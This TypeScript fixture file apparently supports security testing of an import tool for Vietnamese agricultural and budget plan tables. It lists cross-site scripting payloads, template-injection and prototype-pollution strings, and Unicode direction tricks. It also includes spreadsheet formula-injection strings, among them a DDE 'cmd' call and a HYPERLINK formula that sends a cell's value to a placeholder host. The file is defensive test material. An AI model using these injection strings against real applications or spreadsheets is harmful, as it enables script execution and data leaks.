/** Texts that run something, or break something, wherever text is taken for more than text. */
export const PAYLOADS: readonly string[] = [
  '<script>window.ran=1</script>',
  '<img src=x onerror="window.ran=2">',
  '"><svg onload=window.ran=3>',
  "'><iframe srcdoc='<script>parent.ran=4</script>'>",
  'javascript:window.ran=5',
  '{{constructor.constructor("window.ran=6")()}}',
  '${window.ran=7}',
  '{@html "<b onclick=window.ran=8>"}',
  '</textarea></title></style><script>window.ran=9</script>',
  '<a href="javascript:window.ran=10">Thu ngân sách</a>',
  '<style>@import url(//x.invalid)</style>',
  'background:url(//x.invalid/a.png)',
  '<link rel=stylesheet href=//x.invalid>',
  '&lt;script&gt;window.ran=11&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.ran=12\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'toString',
  'Sản lượng \u202Egnàht 2024\u202C',
  'Sản\u200B lượng\uFEFF lúa',
  '%00%3Cscript%3E',
  '<!--<img src="--><img src=x onerror=window.ran=13//">',
  ']]><script>window.ran=14</script>',
];

/** Texts a spreadsheet would reckon with. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://x.invalid?"&A1,"xem")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+1+1',
  '-1+cmd|x!A0',
  '-SUM(A1:A9)',
  '＝1+1',
  "'=1+1",
];

/** Names as plans have them, and negative numbers: no spreadsheet reckons with these. */
export const HARMLESS: readonly string[] = [
  '- Trong đó: lúa mùa',
  '+ Thu nội địa',
  '-5',
  '-5,2',
  '- 1.234,5',
  '+ Đường liên xã',
];

/** The one that is seen at once where it works. */
export const IMAGE = '<img src=x onerror="window.ran=2">';

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Every payload as a name, a unit, a figure and a note; the first row has figures to go wrong. */
export const TABLE = [
  `STT;Chỉ tiêu;Đơn vị;TH 2022;KH 2023;Ước TH 2023;KH 2024;Ghi chú;${quoted(IMAGE)}`,
  `1;Đàn trâu;con;100;120;90;130;${quoted(IMAGE)};x`,
  ...PAYLOADS.map((payload, n) => {
    const text = quoted(payload);
    return `${n + 2};${text};${n % 2 ? text : 'ha'};10;20;${n % 3 ? 15 : text};30;${text};${text}`;
  }),
].join('\n');

/** Rules with payloads for names and operands; the first fails. */
export const RULES = [
  'Loại;Tên;Mức;Biểu thức',
  `;${quoted(IMAGE)};Lỗi;[Đàn trâu] > 99999`,
  `;Tên là mã;Lỗi;[${PAYLOADS[0]}] > 99999`,
  `;${quoted('<svg onload=window.ran=3>')};Lỗi;${quoted(`[${IMAGE} không có] > 0`)}`,
].join('\n');
